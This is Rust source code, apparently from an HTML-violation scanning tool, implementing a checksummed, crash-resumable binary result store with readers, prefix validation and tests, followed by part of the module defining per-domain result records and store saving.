    /// Create a v1 store at `path`, replacing whatever is there.
    pub fn create_overwrite(
        path: &Path,
        seed: u64,
        scale: f64,
        universe: usize,
    ) -> Result<Self, HvError> {
        let sink = FileSink::create(path).map_err(|e| HvError::store_io(path, e))?.armed();
        let mut w = StoreWriter::new(sink, path, seed, scale, universe)?;
        w.sync_segments = true;
        w.out.sync().map_err(|e| HvError::store_io(path, e))?;
        Ok(w)
    }

    /// Resume a crash-interrupted store at `path`.
    ///
    /// Validates the on-disk prefix (magic + header + intact segments),
    /// refuses a header that does not match the requested provenance
    /// (resuming with a different seed/scale/universe would silently mix
    /// corpora), truncates any torn tail, and returns a writer positioned
    /// to append — or [`Resumed::Complete`] when the store already parses
    /// end to end. A missing or empty file degenerates to a fresh create.
    pub fn resume(path: &Path, seed: u64, scale: f64, universe: usize) -> Result<Resumed, HvError> {
        let mut file = match std::fs::OpenOptions::new().read(true).write(true).open(path) {
            Ok(f) => f,
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                let writer = Self::create_overwrite(path, seed, scale, universe)?;
                return Ok(Resumed::Partial { writer, truncated: 0 });
            }
            Err(e) => return Err(HvError::store_io(path, e)),
        };
        let mut data = Vec::new();
        file.read_to_end(&mut data).map_err(|e| HvError::store_io(path, e))?;

        let prefix = scan_prefix(&data, path)?;
        if let Some(h) = &prefix.header {
            let expected = StoreHeader { seed, scale, universe };
            if *h != expected {
                return Err(HvError::store(
                    path,
                    format!(
                        "refusing to resume: store was written with seed {} / scale {} / \
                         universe {}, but this scan requests seed {} / scale {} / universe {}",
                        h.seed, h.scale, h.universe, seed, scale, universe
                    ),
                ));
            }
        }
        if prefix.complete {
            return Ok(Resumed::Complete { segments: prefix.segments });
        }
        if prefix.header.is_none() {
            // Nothing durable yet (torn inside magic/header): start over.
            drop(file);
            let truncated = data.len() as u64;
            let writer = Self::create_overwrite(path, seed, scale, universe)?;
            return Ok(Resumed::Partial { writer, truncated });
        }

        let truncated = data.len() as u64 - prefix.valid_end;
        file.set_len(prefix.valid_end).map_err(|e| HvError::store_io(path, e))?;
        file.seek(SeekFrom::Start(prefix.valid_end)).map_err(|e| HvError::store_io(path, e))?;
        // Make the truncation itself durable before appending past it.
        file.sync_data().map_err(|e| HvError::store_io(path, e))?;

        let total_records = prefix.segments.iter().map(|s| u64::from(s.records)).sum();
        let writer = StoreWriter {
            out: FileSink::at(file, prefix.valid_end).armed(),
            path: path.to_path_buf(),
            last_snapshot: prefix.segments.last().map(|s| s.snapshot),
            segments: prefix.segments,
            total_records,
            sync_segments: true,
        };
        Ok(Resumed::Partial { writer, truncated })
    }
}

impl<W: StoreSink> StoreWriter<W> {
    /// Write the magic + header to an arbitrary sink (`path` only labels
    /// errors).
    pub fn new(
        mut out: W,
        path: &Path,
        seed: u64,
        scale: f64,
        universe: usize,
    ) -> Result<Self, HvError> {
        let header = serde_json::to_string(&StoreHeader { seed, scale, universe })
            .map(String::into_bytes)
            .map_err(|e| HvError::store(path, e.to_string()))?;
        let mut frame = Vec::with_capacity(header.len() + 16);
        frame.extend_from_slice(&(header.len() as u32).to_le_bytes());
        frame.extend_from_slice(&header);
        frame.extend_from_slice(&crc32(&frame).to_le_bytes());
        out.write_all(&MAGIC)
            .and_then(|()| out.write_all(&frame))
            .map_err(|e| HvError::store_io(path, e))?;
        Ok(StoreWriter {
            out,
            path: path.to_path_buf(),
            segments: Vec::new(),
            total_records: 0,
            last_snapshot: None,
            sync_segments: false,
        })
    }

    /// Footer summaries of the segments written (or recovered) so far, in
    /// file order — after [`StoreWriter::resume`] this is the completed
    /// snapshot set a scan can skip.
    pub fn completed(&self) -> &[SegmentSummary] {
        &self.segments
    }

    fn io(&self, e: std::io::Error) -> HvError {
        HvError::store_io(&self.path, e)
    }

    /// Write one block: `tag [extra] [payload_len u64] payload crc32`,
    /// with the CRC covering everything from the tag on.
    fn write_block(&mut self, tag: u8, extra: &[u8], payload: &[u8]) -> Result<(), HvError> {
        let mut head = Vec::with_capacity(extra.len() + 9);
        head.push(tag);
        head.extend_from_slice(extra);
        head.extend_from_slice(&(payload.len() as u64).to_le_bytes());
        let crc = Crc32::new().update(&head).update(payload).finish();
        self.out
            .write_all(&head)
            .and_then(|()| self.out.write_all(payload))
            .and_then(|()| self.out.write_all(&crc.to_le_bytes()))
            .map_err(|e| self.io(e))
    }

    /// Write one snapshot's records as a segment, with the snapshot's
    /// quarantine entries embedded after the footer (omitted when empty,
    /// so quarantine-free stores are byte-identical to the original v1
    /// layout). Segments must arrive in ascending snapshot order; records
    /// are sorted by domain id so the on-disk order is the store's
    /// canonical order.
    pub fn write_segment(
        &mut self,
        snapshot: Snapshot,
        records: &[DomainYearRecord],
        quarantine: &[QuarantineEntry],
    ) -> Result<SegmentSummary, HvError> {
        if self.last_snapshot.is_some_and(|last| snapshot <= last) {
            return Err(HvError::store(
                &self.path,
                format!("segments must be written in ascending snapshot order (got {snapshot} after {})",
                    self.last_snapshot.unwrap()),
            ));
        }
        self.last_snapshot = Some(snapshot);

        let mut sorted: Vec<&DomainYearRecord> = records.iter().collect();
        sorted.sort_by_key(|r| r.domain_id);
        let summary = SegmentSummary::from_records(snapshot, sorted.iter().copied());

        let mut payload = Vec::new();
        payload.extend_from_slice(&(sorted.len() as u32).to_le_bytes());
        for r in &sorted {
            let json = serde_json::to_string(r)
                .map(String::into_bytes)
                .map_err(|e| HvError::store(&self.path, e.to_string()))?;
            payload.extend_from_slice(&(json.len() as u32).to_le_bytes());
            payload.extend_from_slice(&json);
        }
        let footer = serde_json::to_string(&summary)
            .map(String::into_bytes)
            .map_err(|e| HvError::store(&self.path, e.to_string()))?;
        payload.extend_from_slice(&(footer.len() as u32).to_le_bytes());
        payload.extend_from_slice(&footer);
        if !quarantine.is_empty() {
            let json = serde_json::to_string(quarantine)
                .map(String::into_bytes)
                .map_err(|e| HvError::store(&self.path, e.to_string()))?;
            payload.extend_from_slice(&(json.len() as u32).to_le_bytes());
            payload.extend_from_slice(&json);
        }

        self.write_block(TAG_SEGMENT, &[snapshot.0], &payload)?;
        if self.sync_segments {
            self.out.sync().map_err(|e| self.io(e))?;
        }
        self.total_records += sorted.len() as u64;
        self.segments.push(summary);
        Ok(summary)
    }

    /// Embed the scan's observability metrics.
    pub fn write_metrics(&mut self, metrics: &ScanMetrics) -> Result<(), HvError> {
        let json = serde_json::to_string(metrics)
            .map(String::into_bytes)
            .map_err(|e| HvError::store(&self.path, e.to_string()))?;
        self.write_block(TAG_METRICS, &[], &json)
    }

    /// Embed the quarantine audit entries (canonical order expected).
    pub fn write_quarantine(&mut self, entries: &[QuarantineEntry]) -> Result<(), HvError> {
        let json = serde_json::to_string(entries)
            .map(String::into_bytes)
            .map_err(|e| HvError::store(&self.path, e.to_string()))?;
        self.write_block(TAG_QUARANTINE, &[], &json)
    }

    /// Write the trailer and make the store durable. Returns the
    /// per-segment summaries.
    pub fn finish(mut self) -> Result<Vec<SegmentSummary>, HvError> {
        let mut body = Vec::with_capacity(13);
        body.push(TAG_TRAILER);
        body.extend_from_slice(&(self.segments.len() as u32).to_le_bytes());
        body.extend_from_slice(&self.total_records.to_le_bytes());
        let crc = crc32(&body);
        self.out
            .write_all(&body)
            .and_then(|()| self.out.write_all(&crc.to_le_bytes()))
            .and_then(|()| self.out.sync())
            .map_err(|e| HvError::store_io(&self.path, e))?;
        Ok(std::mem::take(&mut self.segments))
    }
}

// --- Reader --------------------------------------------------------------

/// How a load behaves on corruption.
#[derive(Debug, Clone, Copy, Default)]
pub struct LoadOptions {
    /// Keep intact segments and report corrupt ones as
    /// [`DroppedSegment`]s instead of failing the whole load. The header
    /// must still verify — without it there is no store to speak of.
    pub allow_partial: bool,
}

/// One block dropped by a partial load.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DroppedSegment {
    /// Segment ordinal (0-based) for segment blocks; metrics/quarantine
    /// blocks and unrecoverable tails report the next ordinal.
    pub segment: u32,
    /// Byte offset of the dropped block's tag.
    pub offset: u64,
    pub detail: String,
}

/// The outcome of reading a v1 store.
pub struct V1Contents {
    pub seed: u64,
    pub scale: f64,
    pub universe: usize,
    pub records: Vec<DomainYearRecord>,
    pub metrics: Option<ScanMetrics>,
    pub quarantine: Vec<QuarantineEntry>,
    /// Footer summaries of the intact segments, in file order.
    pub segments: Vec<SegmentSummary>,
    /// Blocks a partial load had to drop (always empty on strict loads).
    pub dropped: Vec<DroppedSegment>,
}

struct Cursor<'a> {
    data: &'a [u8],
    pos: usize,
    path: &'a Path,
}

impl<'a> Cursor<'a> {
    fn corrupt(&self, segment: Option<u32>, offset: usize, detail: impl Into<String>) -> HvError {
        HvError::store_corrupt(self.path, segment, offset as u64, detail)
    }

    fn take(&mut self, n: usize, what: &str, segment: Option<u32>) -> Result<&'a [u8], HvError> {
        let start = self.pos;
        let end = start
            .checked_add(n)
            .filter(|&end| end <= self.data.len())
            .ok_or_else(|| self.corrupt(segment, start, format!("truncated {what}")))?;
        self.pos = end;
        Ok(&self.data[start..end])
    }

    fn u32_le(&mut self, what: &str, segment: Option<u32>) -> Result<u32, HvError> {
        Ok(u32::from_le_bytes(self.take(4, what, segment)?.try_into().unwrap()))
    }

    fn u64_le(&mut self, what: &str, segment: Option<u32>) -> Result<u64, HvError> {
        Ok(u64::from_le_bytes(self.take(8, what, segment)?.try_into().unwrap()))
    }
}

/// Parse a v1 store image. Strict mode returns the first integrity
/// failure as [`HvError::StoreCorrupt`]; with
/// [`LoadOptions::allow_partial`] corrupt segments are skipped (using the
/// framed length to resynchronize) and reported in
/// [`V1Contents::dropped`].
pub fn read_v1(data: &[u8], path: &Path, opts: LoadOptions) -> Result<V1Contents, HvError> {
    let mut cur = Cursor { data, pos: 0, path };
    if cur.take(MAGIC.len(), "magic", None)? != MAGIC {
        return Err(cur.corrupt(None, 0, "bad magic (not a v1 store)"));
    }

    // Header: the provenance triple. Non-negotiable even for partial
    // loads — without it there is no store identity.
    let header_start = cur.pos;
    let header_len = cur.u32_le("header length", None)?;
    if u64::from(header_len) > MAX_FRAME {
        return Err(cur.corrupt(None, header_start, "implausible header length"));
    }
    let header_json = cur.take(header_len as usize, "header", None)?;
    let stored_crc = cur.u32_le("header checksum", None)?;
    let actual = Crc32::new().update(&header_len.to_le_bytes()).update(header_json).finish();
    if stored_crc != actual {
        return Err(cur.corrupt(None, header_start, "header checksum mismatch"));
    }
    let header: StoreHeader = serde_json::from_slice(header_json)
        .map_err(|e| cur.corrupt(None, header_start, format!("header does not parse: {e}")))?;

    let mut out = V1Contents {
        seed: header.seed,
        scale: header.scale,
        universe: header.universe,
        records: Vec::new(),
        metrics: None,
        quarantine: Vec::new(),
        segments: Vec::new(),
        dropped: Vec::new(),
    };

    let mut segment_ordinal: u32 = 0;
    let mut saw_trailer = false;
    while cur.pos < data.len() {
        let block_start = cur.pos;
        match read_block(&mut cur, segment_ordinal, &mut out) {
            Ok(BlockOutcome::Segment) => segment_ordinal += 1,
            Ok(BlockOutcome::Other) => {}
            Ok(BlockOutcome::Trailer { segments, records }) => {
                saw_trailer = true;
                // The trailer's counts cross-check the walk — but only a
                // complete walk; a partial load with drops can't match.
                if out.dropped.is_empty()
                    && (segments != segment_ordinal || records != out.records.len() as u64)
                {
                    let e = cur.corrupt(None, block_start, "trailer counts do not match contents");
                    if !opts.allow_partial {
                        return Err(e);
                    }
                    out.dropped.push(DroppedSegment {
                        segment: segment_ordinal,
                        offset: block_start as u64,
                        detail: e.to_string(),
                    });
                }
                if cur.pos != data.len() {
                    let e = cur.corrupt(None, cur.pos, "trailing bytes after trailer");
                    if !opts.allow_partial {
                        return Err(e);
                    }
                    out.dropped.push(DroppedSegment {
                        segment: segment_ordinal,
                        offset: cur.pos as u64,
                        detail: e.to_string(),
                    });
                }
                break;
            }
            Err((recovery, e)) => {
                if !opts.allow_partial {
                    return Err(e);
                }
                out.dropped.push(DroppedSegment {
                    segment: segment_ordinal,
                    offset: block_start as u64,
                    detail: e.to_string(),
                });
                match recovery {
                    // The framing was intact (checksum or content failure
                    // inside the block): skip to the next block.
                    Recovery::Resync { next } => {
                        cur.pos = next;
                        segment_ordinal += 1;
                    }
                    // The framing itself is untrustworthy: drop the rest.
                    Recovery::Unrecoverable => {
                        return Ok(out);
                    }
                }
            }
        }
    }

    if !saw_trailer {
        let e = cur.corrupt(None, cur.pos, "missing trailer (truncated store)");
        if !opts.allow_partial {
            return Err(e);
        }
        out.dropped.push(DroppedSegment {
            segment: segment_ordinal,
            offset: cur.pos as u64,
            detail: e.to_string(),
        });
    }
    Ok(out)
}

enum BlockOutcome {
    Segment,
    Other,
    Trailer { segments: u32, records: u64 },
}

enum Recovery {
    /// Skip to this absolute offset (the byte after the block's CRC).
    Resync {
        next: usize,
    },
    Unrecoverable,
}

/// Read one block. On error, reports whether the caller can resynchronize
/// past it (framing verified in-bounds) or must give up.
fn read_block(
    cur: &mut Cursor<'_>,
    ordinal: u32,
    out: &mut V1Contents,
) -> Result<BlockOutcome, (Recovery, HvError)> {
    let block_start = cur.pos;
    let unrecoverable = |e: HvError| (Recovery::Unrecoverable, e);
    let tag = cur.take(1, "block tag", Some(ordinal)).map_err(unrecoverable)?[0];

    if tag == TAG_TRAILER {
        let body_start = block_start;
        let segments = cur.u32_le("trailer", None).map_err(unrecoverable)?;
        let records = cur.u64_le("trailer", None).map_err(unrecoverable)?;
        let stored = cur.u32_le("trailer checksum", None).map_err(unrecoverable)?;
        let actual = crc32(&cur.data[body_start..body_start + 13]);
        if stored != actual {
            return Err(unrecoverable(cur.corrupt(None, block_start, "trailer checksum mismatch")));
        }
        return Ok(BlockOutcome::Trailer { segments, records });
    }

    let seg = (tag == TAG_SEGMENT).then_some(ordinal);
    let snapshot_byte = if tag == TAG_SEGMENT {
        Some(cur.take(1, "segment snapshot", seg).map_err(unrecoverable)?[0])
    } else {
        None
    };
    if !matches!(tag, TAG_SEGMENT | TAG_METRICS | TAG_QUARANTINE) {
        return Err(unrecoverable(cur.corrupt(
            Some(ordinal),
            block_start,
            format!("unrecognized block tag 0x{tag:02x}"),
        )));
    }
    let payload_len = cur.u64_le("block length", seg).map_err(unrecoverable)?;
    if payload_len > MAX_FRAME {
        return Err(unrecoverable(cur.corrupt(seg, block_start, "implausible block length")));
    }
    let payload_start = cur.pos;
    let payload = cur.take(payload_len as usize, "block payload", seg).map_err(unrecoverable)?;
    let stored = cur.u32_le("block checksum", seg).map_err(unrecoverable)?;
    // From here on the framing is trusted: a failure can resync to `next`.
    let next = cur.pos;
    let resync = |e: HvError| (Recovery::Resync { next }, e);
    let actual =
        Crc32::new().update(&cur.data[block_start..payload_start]).update(payload).finish();
    if stored != actual {
        return Err(resync(cur.corrupt(seg, block_start, "block checksum mismatch")));
    }

    match tag {
        TAG_SEGMENT => {
            let snap = snapshot_byte.expect("segment has a snapshot byte");
            if usize::from(snap) >= Snapshot::ALL.len() {
                return Err(resync(cur.corrupt(
                    seg,
                    block_start,
                    format!("invalid snapshot index {snap}"),
                )));
            }
            let snapshot = Snapshot(snap);
            let (records, summary, quarantine) =
                parse_segment_payload(payload, cur.path, ordinal, block_start).map_err(resync)?;
            if summary.snapshot != snapshot {
                return Err(resync(cur.corrupt(seg, block_start, "footer snapshot mismatch")));
            }
            let recomputed = SegmentSummary::from_records(snapshot, &records);
            if recomputed != summary {
                return Err(resync(cur.corrupt(
                    seg,
                    block_start,
                    "footer summary does not match segment records",
                )));
            }
            if quarantine.iter().any(|q| q.snapshot != snapshot) {
                return Err(resync(cur.corrupt(
                    seg,
                    block_start,
                    "embedded quarantine entry for a different snapshot",
                )));
            }
            out.records.extend(records);
            out.quarantine.extend(quarantine);
            out.segments.push(summary);
            Ok(BlockOutcome::Segment)
        }
        TAG_METRICS => {
            let metrics: ScanMetrics = serde_json::from_slice(payload).map_err(|e| {
                resync(cur.corrupt(None, block_start, format!("metrics block does not parse: {e}")))
            })?;
            out.metrics = Some(metrics);
            Ok(BlockOutcome::Other)
        }
        TAG_QUARANTINE => {
            let entries: Vec<QuarantineEntry> = serde_json::from_slice(payload).map_err(|e| {
                resync(cur.corrupt(
                    None,
                    block_start,
                    format!("quarantine block does not parse: {e}"),
                ))
            })?;
            // Extend, don't assign: new-format stores may carry segment-
            // embedded entries, with a standalone block only for entries
            // whose snapshot has no segment.
            out.quarantine.extend(entries);
            Ok(BlockOutcome::Other)
        }
        _ => unreachable!("tag validated above"),
    }
}

/// Decode a (checksum-verified) segment payload into its records, footer,
/// and optional embedded quarantine entries.
fn parse_segment_payload(
    payload: &[u8],
    path: &Path,
    ordinal: u32,
    block_start: usize,
) -> Result<(Vec<DomainYearRecord>, SegmentSummary, Vec<QuarantineEntry>), HvError> {
    let mut cur = Cursor { data: payload, pos: 0, path };
    let seg = Some(ordinal);
    let bad = |detail: String| HvError::store_corrupt(path, seg, block_start as u64, detail);
    let count =
        cur.u32_le("record count", seg).map_err(|_| bad("truncated record count".into()))?;
    let mut records = Vec::with_capacity(count.min(1 << 20) as usize);
    for i in 0..count {
        let len =
            cur.u32_le("record length", seg).map_err(|_| bad(format!("truncated record {i}")))?;
        let json = cur
            .take(len as usize, "record", seg)
            .map_err(|_| bad(format!("truncated record {i}")))?;
        let record: DomainYearRecord = serde_json::from_slice(json)
            .map_err(|e| bad(format!("record {i} does not parse: {e}")))?;
        records.push(record);
    }
    let len = cur.u32_le("footer length", seg).map_err(|_| bad("truncated footer".into()))?;
    let json = cur.take(len as usize, "footer", seg).map_err(|_| bad("truncated footer".into()))?;
    let summary: SegmentSummary =
        serde_json::from_slice(json).map_err(|e| bad(format!("footer does not parse: {e}")))?;
    // Optional trailing frame: the snapshot's quarantine entries. Absent
    // in quarantine-free and pre-embedding stores.
    let mut quarantine = Vec::new();
    if cur.pos != payload.len() {
        let len =
            cur.u32_le("quarantine length", seg).map_err(|_| bad("truncated quarantine".into()))?;
        let json = cur
            .take(len as usize, "quarantine", seg)
            .map_err(|_| bad("truncated quarantine".into()))?;
        quarantine = serde_json::from_slice(json)
            .map_err(|e| bad(format!("embedded quarantine does not parse: {e}")))?;
        if cur.pos != payload.len() {
            return Err(bad("trailing bytes in segment payload".into()));
        }
    }
    Ok((records, summary, quarantine))
}

// --- Prefix validation (crash recovery) -----------------------------------

/// What a resume-time walk of an on-disk v1 image found: the longest
/// valid durable prefix (magic + header + intact leading segments).
#[derive(Debug)]
pub struct PrefixState {
    /// Parsed provenance, when the magic + header frame verify. `None`
    /// means nothing durable exists yet — a resume starts from scratch.
    pub header: Option<StoreHeader>,
    /// Footer summaries of the fully intact leading segments.
    pub segments: Vec<SegmentSummary>,
    /// Byte offset after each intact segment, in file order (crash tests
    /// and the chaos harness derive staged kill points from these).
    pub segment_ends: Vec<u64>,
    /// Length of the valid prefix — a resume truncates the file here.
    pub valid_end: u64,
    /// The image parses strictly end to end (trailer verified): the
    /// store is already complete.
    pub complete: bool,
}

/// Walk the durable prefix of a v1 store image.
///
/// Returns how far the image is valid: header, then consecutive segment
/// blocks that pass every integrity check (CRC, footer cross-check,
/// embedded quarantine, ascending snapshot order). The walk stops —
/// without erroring — at the first torn or non-segment byte, because
/// everything past the last intact segment (a torn segment, or a
/// metrics/quarantine/trailer tail) is rewritten by the resumed scan.
///
/// Errors only on an image that is not this format at all (≥ 8 bytes of
/// wrong magic), so a resume cannot silently destroy a foreign file.
pub fn scan_prefix(data: &[u8], path: &Path) -> Result<PrefixState, HvError> {
    let fresh = PrefixState {
        header: None,
        segments: Vec::new(),
        segment_ends: Vec::new(),
        valid_end: 0,
        complete: false,
    };
    if data.len() < MAGIC.len() {
        // A torn write inside the magic is a fresh store; anything else
        // at this path is not ours to truncate.
        return if MAGIC.starts_with(data) {
            Ok(fresh)
        } else {
            Err(HvError::store_corrupt(path, None, 0, "bad magic (not a v1 store)"))
        };
    }
    if data[..MAGIC.len()] != MAGIC {
        return Err(HvError::store_corrupt(path, None, 0, "bad magic (not a v1 store)"));
    }

    // Header frame: torn or corrupt ⇒ nothing durable was committed.
    let mut cur = Cursor { data, pos: MAGIC.len(), path };
    let header = (|| -> Result<StoreHeader, HvError> {
        let header_start = cur.pos;
        let header_len = cur.u32_le("header length", None)?;
        if u64::from(header_len) > MAX_FRAME {
            return Err(cur.corrupt(None, header_start, "implausible header length"));
        }
        let header_json = cur.take(header_len as usize, "header", None)?;
        let stored_crc = cur.u32_le("header checksum", None)?;
        let actual = Crc32::new().update(&header_len.to_le_bytes()).update(header_json).finish();
        if stored_crc != actual {
            return Err(cur.corrupt(None, header_start, "header checksum mismatch"));
        }
        serde_json::from_slice(header_json)
            .map_err(|e| cur.corrupt(None, header_start, format!("header does not parse: {e}")))
    })();
    let Ok(header) = header else {
        return Ok(fresh);
    };

    let mut state = PrefixState {
        header: Some(header),
        segments: Vec::new(),
        segment_ends: Vec::new(),
        valid_end: cur.pos as u64,
        complete: false,
    };
    let mut scratch = V1Contents {
        seed: header.seed,
        scale: header.scale,
        universe: header.universe,
        records: Vec::new(),
        metrics: None,
        quarantine: Vec::new(),
        segments: Vec::new(),
        dropped: Vec::new(),
    };
    while cur.pos < data.len() && data[cur.pos] == TAG_SEGMENT {
        let ordinal = state.segments.len() as u32;
        if read_block(&mut cur, ordinal, &mut scratch).is_err() {
            break;
        }
        let summary = *scratch.segments.last().expect("segment block pushed a summary");
        if state.segments.last().is_some_and(|prev| summary.snapshot <= prev.snapshot) {
            break;
        }
        state.segments.push(summary);
        state.segment_ends.push(cur.pos as u64);
        state.valid_end = cur.pos as u64;
    }

    // Completeness: the whole image parses strictly through its trailer.
    if read_v1(data, path, LoadOptions::default()).is_ok() {
        state.complete = true;
        state.valid_end = data.len() as u64;
    }
    Ok(state)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc32_matches_known_vectors() {
        // IEEE CRC-32 check value for "123456789".
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
        // Incremental equals one-shot.
        let inc = Crc32::new().update(b"1234").update(b"56789").finish();
        assert_eq!(inc, crc32(b"123456789"));
    }

    #[test]
    fn segment_summary_folds_records() {
        let mut r = crate::store::test_record(3, 0, &[hv_core::ViolationKind::FB2]);
        r.pages_quarantined = 2;
        let clean = crate::store::test_record(4, 0, &[]);
        let s = SegmentSummary::from_records(Snapshot::ALL[0], &[r, clean]);
        assert_eq!(s.records, 2);
        assert_eq!(s.domains_analyzed, 2);
        assert_eq!(s.domains_violating, 1);
        assert_eq!(s.pages_found, 20);
        assert_eq!(s.pages_analyzed, 20);
        assert_eq!(s.pages_quarantined, 2);
    }
}
