//! The result store — the paper's PostgresDB (Figure 6, step 4), embedded.
//!
//! One [`DomainYearRecord`] per (domain, snapshot): which pages were found
//! and analyzed, which violation kinds appeared on at least one page, and
//! the §4.5 mitigation flags. Everything the aggregation layer needs, no
//! external service.

use crate::format::{self, DroppedSegment, LoadOptions, SegmentSummary, StoreWriter};
use crate::metrics::ScanMetrics;
use crate::outcome::QuarantineEntry;
use hv_core::{HvError, MitigationFlags, ViolationKind};
use hv_corpus::Snapshot;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::io;
use std::path::Path;

/// Per-(domain, snapshot) facts.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DomainYearRecord {
    pub domain_id: u64,
    pub domain_name: String,
    pub rank: u32,
    pub snapshot: Snapshot,
    /// Pages listed in the CDX index for this domain/snapshot.
    pub pages_found: usize,
    /// Pages that passed the UTF-8 filter and were checked.
    pub pages_analyzed: usize,
    /// Violation kinds present on at least one analyzed page.
    pub kinds: BTreeSet<ViolationKind>,
    /// Number of pages on which each kind appeared.
    pub page_counts: BTreeMap<ViolationKind, u32>,
    /// §4.5 mitigation flags, OR-ed over the domain's pages. Flattened so
    /// the JSON keeps the four historical top-level keys
    /// (`script_in_attribute`, …) — stores written by older versions load
    /// unchanged, and older readers can still read new stores.
    #[serde(flatten)]
    pub mitigations: MitigationFlags,
    /// Kinds that would remain after the §4.4 automatic fix.
    pub kinds_after_autofix: BTreeSet<ViolationKind>,
    /// §4.2 usage statistic: at least one page contains a `math` element.
    #[serde(default)]
    pub uses_math: bool,
    /// Pages whose read path had a fault injected (`--inject-faults`).
    /// Zero on clean scans and then omitted from the JSON — clean stores
    /// stay byte-identical to ones written before the failure model.
    #[serde(default, skip_serializing_if = "usize_is_zero")]
    pub pages_faulted: usize,
    /// Pages analyzed only after transient-error retries.
    #[serde(default, skip_serializing_if = "usize_is_zero")]
    pub pages_degraded: usize,
    /// Pages set aside with a structured reason (see
    /// [`ResultStore::quarantine`] for the per-page entries).
    #[serde(default, skip_serializing_if = "usize_is_zero")]
    pub pages_quarantined: usize,
}

/// `skip_serializing_if` predicate for the fault counters.
fn usize_is_zero(n: &usize) -> bool {
    *n == 0
}

impl DomainYearRecord {
    /// Whether the domain was successfully analyzed (≥ 1 page decoded).
    pub fn analyzed(&self) -> bool {
        self.pages_analyzed > 0
    }

    pub fn violating(&self) -> bool {
        !self.kinds.is_empty()
    }
}

/// The embedded result database.
#[derive(Debug, Default, Clone, Serialize, Deserialize)]
pub struct ResultStore {
    /// Scan identification: corpus seed and scale, for provenance.
    pub seed: u64,
    pub scale: f64,
    /// Size of the scanned universe (domains on the averaged top list).
    pub universe: usize,
    pub records: Vec<DomainYearRecord>,
    /// Scan observability provenance: how the store was produced
    /// (throughput, per-phase timings, per-check fire counts). `None` for
    /// stores written without `--metrics` or by older versions.
    #[serde(default)]
    pub metrics: Option<ScanMetrics>,
    /// Pages the scan set aside with a structured reason, in canonical
    /// (snapshot, domain, page) order. Empty on clean scans and then
    /// omitted from the JSON (wire compatibility with older stores).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub quarantine: Vec<QuarantineEntry>,
}

impl ResultStore {
    pub fn new(seed: u64, scale: f64, universe: usize) -> Self {
        ResultStore {
            seed,
            scale,
            universe,
            records: Vec::new(),
            metrics: None,
            quarantine: Vec::new(),
        }
    }

    /// Insert records and keep the canonical ordering (snapshot, then
    /// domain id; quarantine additionally by page) so scans are
    /// byte-identical at any thread count.
    pub fn finalize(&mut self) {
        self.records.sort_by_key(|r| (r.snapshot, r.domain_id));
        self.quarantine.sort_by_key(|q| (q.snapshot, q.domain_id, q.page_index));
    }

    /// Records for one snapshot.
    pub fn by_snapshot(&self, snap: Snapshot) -> impl Iterator<Item = &DomainYearRecord> {
        self.records.iter().filter(move |r| r.snapshot == snap)
    }

    /// All records of one domain across snapshots.
    pub fn by_domain(&self, domain_id: u64) -> impl Iterator<Item = &DomainYearRecord> {
        self.records.iter().filter(move |r| r.domain_id == domain_id)
    }

    /// Domains successfully analyzed in at least one snapshot.
    pub fn analyzed_domains(&self) -> BTreeSet<u64> {
        self.records.iter().filter(|r| r.analyzed()).map(|r| r.domain_id).collect()
    }

    /// Persist as v0 JSON — the export/interchange format. Failures come
    /// back as the workspace-wide [`HvError`], so callers (CLI, server
    /// startup) map them uniformly.
    ///
    /// Writes through a temp sibling + fsync + rename + parent-dir fsync,
    /// so a crash mid-save never leaves a torn store at `path`.
    pub fn save(&self, path: &Path) -> Result<(), HvError> {
        let tmp = tmp_sibling(path);
        let write = || -> Result<(), HvError> {
            let file = std::fs::File::create(&tmp).map_err(|e| HvError::store_io(path, e))?;
            let mut out = io::BufWriter::new(file);
            serde_json::to_writer(&mut out, self)
                .map_err(|e| HvError::store(path, e.to_string()))?;
            io::Write::flush(&mut out)
                .and_then(|()| out.get_ref().sync_data())
                .map_err(|e| HvError::store_io(path, e))
        };
        commit_tmp(write(), &tmp, path)
    }

    /// Persist as a v1 segmented binary store: one checksummed segment per
    /// snapshot (each embedding its snapshot's quarantine entries), metrics
    /// as its own block, plus a standalone quarantine block for entries
    /// whose snapshot has no records. Returns the per-segment summaries
    /// that went into the footers.
    ///
    /// One-shot and atomic: temp sibling + fsync + rename + parent-dir
    /// fsync (a resumable in-place writer is [`StoreWriter::resume`]).
    pub fn save_v1(&self, path: &Path) -> Result<Vec<SegmentSummary>, HvError> {
        let tmp = tmp_sibling(path);
        let write = || -> Result<Vec<SegmentSummary>, HvError> {
            let sink = format::FileSink::create(&tmp).map_err(|e| HvError::store_io(path, e))?;
            let mut w = StoreWriter::new(sink, path, self.seed, self.scale, self.universe)?;
            let mut covered: BTreeSet<Snapshot> = BTreeSet::new();
            for &snap in Snapshot::ALL.iter() {
                let records: Vec<DomainYearRecord> = self.by_snapshot(snap).cloned().collect();
                if !records.is_empty() {
                    let quarantine: Vec<QuarantineEntry> =
                        self.quarantine.iter().filter(|q| q.snapshot == snap).cloned().collect();
                    w.write_segment(snap, &records, &quarantine)?;
                    covered.insert(snap);
                }
            }
            if let Some(metrics) = &self.metrics {
                w.write_metrics(metrics)?;
            }
            let leftover: Vec<QuarantineEntry> = self
                .quarantine
                .iter()
                .filter(|q| !covered.contains(&q.snapshot))
                .cloned()
                .collect();
            if !leftover.is_empty() {
                w.write_quarantine(&leftover)?;
            }
            w.finish()
        };
        commit_tmp(write(), &tmp, path)
    }

    /// Persist in an explicit format.
    pub fn save_as(&self, path: &Path, fmt: StoreFormat) -> Result<(), HvError> {
        match fmt {
            StoreFormat::V0Json => self.save(path),
            StoreFormat::V1Binary => self.save_v1(path).map(|_| ()),
        }
    }

    /// Load a store, sniffing v0 JSON vs v1 binary by the leading bytes —
    /// every store ever written keeps loading through this one entry
    /// point. I/O failures become [`HvError::Store`] with the `io::Error`
    /// as `source`; malformed JSON becomes a store error with the parser's
    /// detail; v1 integrity failures become [`HvError::StoreCorrupt`].
    pub fn load(path: &Path) -> Result<Self, HvError> {
        Self::load_with(path, LoadOptions::default()).map(|l| l.store)
    }

    /// [`ResultStore::load`] with options and provenance: which format was
